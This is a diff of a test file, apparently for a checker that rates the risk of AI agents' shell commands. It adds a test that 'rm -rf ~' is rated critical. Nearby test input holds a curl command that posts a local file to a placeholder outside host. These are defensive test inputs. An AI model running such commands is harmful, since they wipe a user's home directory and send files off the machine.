@@ -70,6 +70,12 @@ def test_arguments_that_cannot_be_read_are_denied(tool: str, arguments: dict[str
     assert judged(tool, arguments).denied
 
 
+def test_the_home_folder_is_guessed_when_nobody_tells_it() -> None:
+    for cwd in ("/home/dev/shop", "/srv/app", ""):
+        found = assess(Action("Bash", {"command": "rm -rf ~"}, cwd=cwd), load_rules())
+        assert found.level.name == "CRITICAL", cwd
+
+
 def test_what_is_touched_is_told() -> None:
     found = judged("Bash", {"command": "cat src/a.py > /tmp/x; curl -d @b.txt https://x.example/"})
     told = {(touch.kind, touch.name, touch.how) for touch in found.touches}
